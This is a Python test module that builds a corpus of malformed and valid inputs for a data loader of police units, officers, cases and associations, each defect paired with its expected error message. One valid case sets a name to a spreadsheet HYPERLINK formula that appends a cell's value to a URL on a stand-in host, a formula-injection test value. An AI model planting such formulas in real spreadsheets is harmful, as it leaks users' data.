"""The corpus: every defect class of docs/data-contract.md, one per case, as code.

Each :class:`Case` turns a fresh copy of ``tests/fixtures/example`` into the input to
load (a folder or a workbook) plus extra ``coi load`` arguments. ``DEFECTS`` must be
refused with a line naming the file, row and column where they apply, and the reason
(``expect`` lists those fragments); ``VALID`` must load. ``write_corpus`` writes every
case out as a folder, for trying them by hand (``python -m bad_input.defects OUT``).
"""

from __future__ import annotations

import csv
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

__all__ = ["DEFECTS", "EXAMPLE", "VALID", "Case", "edit", "read_rows", "write_corpus", "write_rows"]

EXAMPLE = Path(__file__).parent.parent / "fixtures" / "example"
Rows = list[dict[str, str]]
Make = Callable[[Path], tuple[Path, tuple[str, ...]]]


@dataclass(frozen=True)
class Case:
    name: str
    make: Make
    expect: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name

    def build(self, target: Path) -> tuple[Path, tuple[str, ...]]:
        """Copy the example to ``target`` and apply this case; return (input, extra args)."""
        shutil.copytree(EXAMPLE, target, ignore=shutil.ignore_patterns("*.md"))
        return self.make(target)


def read_rows(path: Path) -> tuple[list[str], Rows]:
    with open(path, encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def write_rows(path: Path, header: list[str], rows: Rows) -> None:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)


def edit(table: str, fn: Callable[[list[str], Rows], None]) -> Make:
    """A change to one CSV: ``fn`` edits the header list and the rows in place."""

    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        path = folder / f"{table}.csv"
        header, rows = read_rows(path)
        fn(header, rows)
        write_rows(path, header, [{k: r.get(k, "") for k in header} for r in rows])
        return folder, ()

    return make


def cell(table: str, row: int, column: str, value: str) -> Make:
    """Set one cell; ``row`` counts as a spreadsheet does (header = 1)."""
    return edit(table, lambda h, rows: rows[row - 2].__setitem__(column, value))


def copy_row(table: str, row: int, **changes: str) -> Make:
    """Append a copy of one row (spreadsheet numbering) with some cells changed."""
    return edit(table, lambda h, rows: rows.append({**rows[row - 2], **changes}))


def drop_column(table: str, column: str) -> Make:
    def fn(header: list[str], rows: Rows) -> None:
        header.remove(column)

    return edit(table, fn)


def add_column(table: str, column: str, values: list[str]) -> Make:
    def fn(header: list[str], rows: Rows) -> None:
        header.insert(0, column)
        for r, v in zip(rows, values, strict=False):
            r[column] = v

    return edit(table, fn)


def remove(table: str) -> Make:
    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        (folder / f"{table}.csv").unlink()
        return folder, ()

    return make


def raw(table: str, data: bytes | Callable[[bytes], bytes], suffix: str = ".csv") -> Make:
    """Replace a table's file by these bytes (or by a function of the CSV's bytes)."""

    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        source = folder / f"{table}.csv"
        content = data(source.read_bytes()) if callable(data) else data
        source.unlink()
        (folder / f"{table}{suffix}").write_bytes(content)
        return folder, ()

    return make


def header_only(*tables: str) -> Make:
    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        for table in tables:
            path = folder / f"{table}.csv"
            path.write_bytes(path.read_bytes().splitlines(keepends=True)[0])
        return folder, ()

    return make


def workbook(sheet_names: dict[str, str]) -> Make:
    """All tables in one workbook, some sheets renamed (table -> sheet name)."""

    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        book = folder / "force.xlsx"
        with pd.ExcelWriter(book) as writer:
            for path in sorted(folder.glob("*.csv")):
                frame = pd.read_csv(path, dtype=str, keep_default_na=False)
                frame.to_excel(writer, sheet_name=sheet_names.get(path.stem, path.stem), index=False)
                path.unlink()
        return book, ()

    return make


def parquet(table: str) -> Make:
    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        path = folder / f"{table}.csv"
        pd.read_csv(path, dtype=str, keep_default_na=False).to_parquet(path.with_suffix(".parquet"))
        path.unlink()
        return folder, ()

    return make


def both_formats(table: str) -> Make:
    """The same table as CSV and as Parquet."""

    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        parquet(table)(folder)
        shutil.copy(EXAMPLE / f"{table}.csv", folder)
        return folder, ()

    return make


def with_args(make: Make, *args: str) -> Make:
    def wrapped(folder: Path) -> tuple[Path, tuple[str, ...]]:
        target, more = make(folder)
        return target, (*more, *args)

    return wrapped


def mapping(text: str) -> Make:
    """A mapping file written beside the folder, passed with --mapping."""

    def make(folder: Path) -> tuple[Path, tuple[str, ...]]:
        path = folder.parent / f"{folder.name}-map.toml"
        path.write_text(text, encoding="utf-8")
        return folder, ("--mapping", str(path))

    return make


def latin1(data: bytes) -> bytes:
    return data.decode("utf-8").encode("latin-1")


def ragged(data: bytes) -> bytes:
    lines = data.splitlines(keepends=True)
    lines[2] = lines[2].rstrip(b"\r\n") + b",extra,cells\n"
    return b"".join(lines)


D = Case
DEFECTS: list[Case] = [
    # required tables and columns
    *(
        D(f"missing-table-{t}", remove(t), (f"{t}.csv", f"required table {t} not found"))
        for t in ("units", "officers", "postings", "cases", "assignments")
    ),
    *(
        D(f"missing-column-{t}.{c}", drop_column(t, c), (f"{t}.csv", f"missing required column(s): {c}"))
        for t, c in (
            ("units", "name"),
            ("officers", "officer_id"),
            ("people", "person_id"),
            ("postings", "start_date"),
            ("cases", "case_type"),
            ("assignments", "role"),
            ("associations", "person_b"),
        )
    ),
    # empty required values
    *(
        D(f"empty-{t}.{c}", cell(t, r, c, ""), (f"{t}.csv row {r}, column {c}", "required value is empty"))
        for t, r, c in (
            ("units", 3, "name"),
            ("officers", 4, "name"),
            ("people", 2, "person_id"),
            ("postings", 2, "start_date"),
            ("cases", 2, "opened_on"),
            ("assignments", 2, "role"),
            ("associations", 2, "kind"),
        )
    ),
    # duplicate ids, and duplicate rows whose id is derived
    *(
        D(f"duplicate-{t}.{c}", copy_row(t, 3), (f"{t}.csv row 3, column {c}", f"duplicate {c}"))
        for t, c in (("units", "unit_id"), ("officers", "officer_id"), ("people", "person_id"), ("cases", "case_id"))
    ),
    D(
        "duplicate-postings.posting_id",
        add_column("postings", "posting_id", ["PX1", "PX1"] + [f"PX{i}" for i in range(2, 20)]),
        ("postings.csv row 2, column posting_id", "duplicate posting_id"),
    ),
    D(
        "duplicate-assignments.assignment_id",
        add_column("assignments", "assignment_id", ["A1"] * 2 + [f"A{i}" for i in range(2, 20)]),
        ("assignments.csv row 3, column assignment_id", "duplicate assignment_id"),
    ),
    D(
        "duplicate-associations.association_id",
        add_column("associations", "association_id", ["S1", "S2", "S1"]),
        ("associations.csv row 4, column association_id", "duplicate association_id"),
    ),
    D(
        "duplicate-derived-posting",
        copy_row("postings", 5, role="Other role"),
        ("postings.csv row 5", "duplicate row (same officer_id, unit_id, start_date)"),
    ),
    D(
        "duplicate-derived-assignment",
        copy_row("assignments", 4),
        ("assignments.csv row 4", "duplicate row (same case_id, person_id, role, start_date)"),
    ),
    D(
        "duplicate-derived-association-reversed",
        copy_row("associations", 2, person_a="O3", person_b="O7"),
        ("associations.csv row 2", "duplicate row"),
    ),
    # dates
    D(
        "date-not-iso",
        cell("officers", 2, "joined_on", "2001.09.01"),
        ("officers.csv row 2, column joined_on", "not a date in YYYY-MM-DD form"),
    ),
    D(
        "date-words",
        cell("cases", 3, "opened_on", "10 May 2019"),
        ("cases.csv row 3, column opened_on", "not a date in YYYY-MM-DD form"),
    ),
    D(
        "date-ambiguous-dayfirst",
        cell("cases", 2, "opened_on", "03/01/2023"),
        ("cases.csv row 2, column opened_on", "ambiguous: pass --dayfirst"),
    ),
    D(
        "date-impossible",
        cell("postings", 2, "start_date", "2021-02-30"),
        ("postings.csv row 2, column start_date", "not a real calendar date"),
    ),
    D(
        "date-impossible-dayfirst",
        with_args(cell("postings", 2, "start_date", "30/02/2021"), "--dayfirst"),
        ("postings.csv row 2, column start_date", "not a real calendar date"),
    ),
    D(
        "end-before-start-postings",
        cell("postings", 6, "end_date", "2016-12-31"),
        ("postings.csv row 6, column end_date", "ends before it starts"),
    ),
    D(
        "end-before-start-cases",
        cell("cases", 3, "closed_on", "2019-01-01"),
        ("cases.csv row 3, column closed_on", "ends before it starts"),
    ),
    D(
        "end-before-start-assignments",
        cell("assignments", 6, "end_date", "2019-05-01"),
        ("assignments.csv row 6, column end_date", "ends before it starts"),
    ),
    D(
        "end-before-start-associations",
        cell("associations", 2, "end_date", "2015-01-01"),
        ("associations.csv row 2, column end_date", "ends before it starts"),
    ),
    D(
        "end-before-start-officers",
        cell("officers", 2, "left_on", "2000-01-01"),
        ("officers.csv row 2, column left_on", "ends before it starts"),
    ),
    # references
    D(
        "unknown-unit",
        cell("postings", 2, "unit_id", "NOWHERE"),
        ("postings.csv row 2, column unit_id", "unknown unit id"),
    ),
    D(
        "unknown-parent-unit",
        cell("units", 3, "parent_unit_id", "NOPE"),
        ("units.csv row 3, column parent_unit_id", "unknown unit id"),
    ),
    D(
        "unknown-officer-is-a-person",
        cell("postings", 2, "officer_id", "P1"),
        ("postings.csv row 2, column officer_id", "unknown officer id"),
    ),
    D(
        "unknown-line-manager",
        cell("postings", 3, "line_manager_id", "O99"),
        ("postings.csv row 3, column line_manager_id", "unknown person id"),
    ),
    D(
        "unknown-case",
        cell("assignments", 2, "case_id", "K99"),
        ("assignments.csv row 2, column case_id", "unknown case id"),
    ),
    D(
        "unknown-person",
        cell("assignments", 3, "person_id", "X1"),
        ("assignments.csv row 3, column person_id", "unknown person id"),
    ),
    D(
        "unknown-association-person",
        cell("associations", 2, "person_a", "X2"),
        ("associations.csv row 2, column person_a", "unknown person id"),
    ),
    D(
        "unknown-counter-allegation",
        cell("cases", 4, "counter_allegation_of", "K99"),
        ("cases.csv row 4, column counter_allegation_of", "unknown case id"),
    ),
    # structure
    D(
        "unit-cycle",
        cell("units", 3, "parent_unit_id", "NRA"),
        ("units.csv row 3, column parent_unit_id", "unit hierarchy has a cycle"),
    ),
    D(
        "unit-own-parent",
        cell("units", 2, "parent_unit_id", "EXF"),
        ("units.csv row 2, column parent_unit_id", "cycle"),
    ),
    D(
        "officer-person-id-collision",
        copy_row("people", 2, person_id="O1"),
        ("people.csv row 4, column person_id", "share one id namespace"),
    ),
    D(
        "self-counter-allegation",
        cell("cases", 4, "counter_allegation_of", "K4"),
        ("cases.csv row 4, column counter_allegation_of", "counter-allegation of itself"),
    ),
    D(
        "self-association",
        cell("associations", 2, "person_b", "O7"),
        ("associations.csv row 2, column person_b", "two different people"),
    ),
    # enumerations and booleans
    *(
        D(f"bad-enum-{t}.{c}", cell(t, r, c, v), (f"{t}.csv row {r}, column {c}", "must be one of"))
        for t, r, c, v in (
            ("officers", 2, "rank", "general"),
            ("cases", 2, "case_type", "murder"),
            ("assignments", 2, "role", "judge"),
            ("associations", 2, "kind", "enemy"),
            ("associations", 3, "source", "rumour"),
            ("units", 2, "kind", "galaxy"),
        )
    ),
    D(
        "bad-boolean",
        cell("postings", 2, "supervisor", "maybe"),
        ("postings.csv row 2, column supervisor", "must be true or false"),
    ),
    # files
    D("not-utf8-latin1", raw("officers", latin1), ("officers.csv", "not UTF-8")),
    D("empty-file", raw("officers", b""), ("officers.csv", "empty file")),
    D("empty-optional-file", raw("people", b""), ("people.csv", "empty file")),
    D("ragged-csv", raw("officers", ragged), ("officers.csv", "malformed CSV")),
    D(
        "duplicate-header",
        raw("officers", lambda b: b.replace(b"rank,", b"name,", 1)),
        ("officers.csv", "appears twice"),
    ),
    D("corrupt-parquet", raw("officers", b"PAR1 not really", ".parquet"), ("officers.parquet", "cannot read Parquet")),
    D("table-twice", both_formats("people"), ("people", "found twice")),
    D(
        "xlsx-renamed-sheet",
        workbook({"officers": "Officers export"}),
        ("officers", "required table officers not found"),
    ),
    D(
        "mapping-unknown-column",
        mapping('[columns.officers]\nbadge = "Badge"\n'),
        ("-map.toml", "'badge' is not a column of officers"),
    ),
    D("mapping-not-toml", mapping("[columns\n"), ("-map.toml", "cannot read mapping")),
]

HUGE = "x" * 1_000_000
FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
VALID: list[Case] = [
    D("header-only-associations", header_only("associations")),
    D(
        "header-only-every-table",
        header_only("units", "officers", "people", "postings", "cases", "assignments", "associations"),
    ),
    D("utf8-bom", raw("officers", lambda b: b"\xef\xbb\xbf" + b)),
    D("huge-field", cell("cases", 2, "summary", HUGE)),
    D("formula-looking-name", cell("officers", 2, "name", FORMULA)),
    D("parquet-table", parquet("officers")),
    D("xlsx-workbook", workbook({})),
    D("dayfirst-with-option", with_args(cell("cases", 2, "opened_on", "01/03/2023"), "--dayfirst")),
    D("crlf-line-ends", raw("officers", lambda b: b.replace(b"\n", b"\r\n"))),
]


def write_corpus(target: Path) -> None:
    """Write every case as ``target/<name>/`` (mapping cases leave their file beside it)."""
    for case in [*DEFECTS, *VALID]:
        case.build(target / case.name)


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1]))
